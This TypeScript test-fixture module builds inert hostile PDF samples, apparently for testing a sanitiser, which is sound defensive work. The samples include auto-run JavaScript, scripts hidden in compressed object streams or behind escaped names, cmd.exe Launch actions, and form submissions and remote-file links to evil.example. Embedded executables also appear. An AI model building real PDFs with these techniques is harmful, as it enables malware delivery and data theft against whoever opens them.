// PDFs that act: each starts, sends, opens or hides something in a way of its own. All are made harmless, none is served as
// it came. What they would do is called ACTS, which must be gone afterwards.
import { deflateSync } from 'node:zlib'

import { join, text, type Hostile } from './build.ts'

export const ACTS = 'ACTS-ON-ITS-OWN'

/** Objects from number 6 on; 1 is the catalogue, 2 the pages, 3 the page, 4 what it shows, 5 its font. */
export interface PdfParts {
  catalogue?: string
  page?: string
  /** Of the page, beside its font F1. */
  resources?: string
  objects?: (string | Buffer)[]
  trailer?: string
}

const shown = 'BT /F1 24 Tf 72 720 Td (Bewerbung) Tj ET'

export function pdf({ catalogue = '', page = '', resources = '', objects = [], trailer = '' }: PdfParts = {}): Buffer {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >> ${page} >>`,
    `<< /Length ${shown.length} >>\nstream\n${shown}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  ]
  const numbered = all.flatMap((body, i) => [`${i + 1} 0 obj\n`, body, '\nendobj\n'])
  return join('%PDF-1.7\n', ...numbered, `trailer << /Root 1 0 R /Size ${all.length + 1} ${trailer} >>\n%%EOF\n`)
}

/** Objects packed and deflated: searching the file's text finds nothing. */
function packed(...objects: { number: number; body: string }[]): Buffer {
  const bodies = objects.map(({ body }) => body)
  const offsets = bodies.map((_, i) => bodies.slice(0, i).join(' ').length + (i ? 1 : 0))
  const head = `${objects.map(({ number }, i) => `${number} ${offsets[i]}`).join(' ')} `
  const data = deflateSync(text(head + bodies.join(' ')))
  const dictionary = `<< /Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>`
  return join(`${dictionary}\nstream\n`, data, '\nendstream')
}

const script = `<< /S /JavaScript /JS (app.alert\\('${ACTS}'\\)) >>`
const annotation = (more: string) => `/Annots [<< /Type /Annot /Rect [72 600 300 640] ${more} >>]`
const link = (action: string) => annotation(`/Subtype /Link /A ${action}`)
const attached = join(`<< /Type /EmbeddedFile /Length ${ACTS.length} >>\nstream\n${ACTS}\nendstream`)

const bodies: Record<string, PdfParts> = {
  script: { catalogue: `/OpenAction ${script}` },
  'script-packed': {
    catalogue: '/OpenAction 7 0 R',
    objects: [packed({ number: 7, body: script })],
  },
  'script-packed-twice': {
    catalogue: '/OpenAction 7 0 R',
    objects: [
      packed(
        { number: 7, body: '<< /S 8 0 R /JS 9 0 R >>' },
        { number: 8, body: '/JavaScript' },
        { number: 9, body: `(${ACTS})` },
      ),
    ],
  },
  'script-behind-reference': {
    catalogue: '/OpenAction 6 0 R',
    objects: ['<< /S 7 0 R /JS 8 0 R >>', '/JavaScript', `(${ACTS})`],
  },
  'script-in-stream': {
    catalogue: '/OpenAction << /S /JavaScript /JS 6 0 R >>',
    objects: [`<< /Length ${ACTS.length} >>\nstream\n${ACTS}\nendstream`],
  },
  'script-by-name': { catalogue: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` },
  'script-on-page': { page: `/AA << /O ${script} >>` },
  'script-on-link': { page: link(script) },
  'script-after-turn': { page: link(`<< /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>`) },
  'script-in-outline': {
    catalogue: '/Outlines 6 0 R',
    objects: ['<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>', `<< /Title (x) /Parent 6 0 R /A ${script} >>`],
  },
  'script-in-field': {
    catalogue: '/AcroForm << /Fields [6 0 R] /CO [6 0 R] >>',
    page: '/Annots [6 0 R]',
    objects: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 500 300 520] /AA << /K ${script} >> >>`],
  },
  'page-as-font': {
    page: `/AA << /O ${script} >> /Self 6 0 R`,
    resources: '/XObject 3 0 R',
    objects: ['<< /Font 3 0 R >>'],
  },
  'action-of-no-type': { page: link(`<< /S /Unheard /JS (${ACTS}) >>`) },
  launch: { catalogue: `/OpenAction << /S /Launch /F (cmd.exe /c ${ACTS}) >>` },
  'launch-on-link': { page: link(`<< /S /Launch /Win << /F (cmd.exe) /P (${ACTS}) >> >>`) },
  'other-file': { page: link(`<< /S /GoToR /F (\\\\\\\\evil.example\\\\${ACTS}.pdf) /D [0 /Fit] >>`) },
  'other-file-inside': { page: link(`<< /S /GoToE /T << /R /C /N (${ACTS}) >> >>`) },
  'submit-form': { page: link(`<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/${ACTS}) >> >>`) },
  'import-data': { page: link(`<< /S /ImportData /F (${ACTS}.fdf) >>`) },
  'uri-script': { page: link(`<< /S /URI /URI (javascript:${ACTS}) >>`) },
  'uri-file': { page: link(`<< /S /URI /URI (file:///c:/${ACTS}.exe) >>`) },
  'uri-base': { catalogue: `/URI << /Base (file:///${ACTS}/) >>` },
  embedded: {
    catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> /AF [6 0 R]',
    objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', attached],
  },
  attachment: {
    page: annotation('/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 6 0 R >> >>'),
    objects: [attached],
  },
  'rich-media': {
    page: annotation('/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >>'),
    objects: [attached],
  },
  movie: { page: annotation(`/Subtype /Screen /A << /S /Rendition /JS (${ACTS}) /OP 0 >>`) },
  xfa: { catalogue: `/AcroForm << /Fields [] /XFA (<xdp>${ACTS}</xdp>) >>` },
  portfolio: { catalogue: `/Collection << /D (${ACTS}) >>` },
  'outside-stream': {
    page: '/Thumb 6 0 R',
    objects: [`<< /Length 0 /F (\\\\\\\\evil.example\\\\${ACTS}) >>\nstream\n\nendstream`],
  },
  unused: { objects: [script] },
}

export const actingPdfs = (): Hostile[] =>
  Object.entries(bodies).map(([name, parts]) => ({
    name: `${name}.pdf`,
    group: 'document',
    bytes: pdf(parts),
    expected: 'cleaned',
    secret: ACTS,
  }))

export const refusedPdfs = (): Hostile[] =>
  Object.entries({
    // The scanner is faster: it takes names spelled like this for what they are.
    spelled: pdf({ catalogue: `/OpenAction << /S /J#61vaScript /#4aS (${ACTS}) >>` }),
    locked: pdf({ trailer: '/Encrypt 6 0 R', objects: ['<< /Filter /Standard /V 2 /R 3 /O (x) /U (x) /P -4 >>'] }),
    'no-pages': text('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    'no-catalogue': text('%PDF-1.7\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    'half-object': pdf({ catalogue: '/Lang 6 0 R', objects: [`<< /S /JavaScript /JS (${ACTS} `] }),
  }).map(([name, bytes]) => ({ name: `${name}.pdf`, group: 'document', bytes, expected: 'refused' }))
